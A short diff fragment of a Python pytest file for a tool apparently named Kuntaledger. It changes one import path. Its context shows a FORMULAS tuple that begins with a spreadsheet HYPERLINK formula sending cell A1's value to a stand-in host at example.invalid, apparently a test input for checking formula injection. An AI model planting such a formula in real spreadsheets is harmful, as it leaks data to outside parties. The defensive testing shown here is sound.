@@ -17,7 +17,7 @@ from pathlib import Path
 
 import openpyxl
 import pytest
-from cli_helpers import Kuntaledger, Run
+from support.cli_helpers import Kuntaledger, Run
 
 FORMULAS = (
     '=HYPERLINK("http://example.invalid/?leak="&A1,"Klikkaa")',
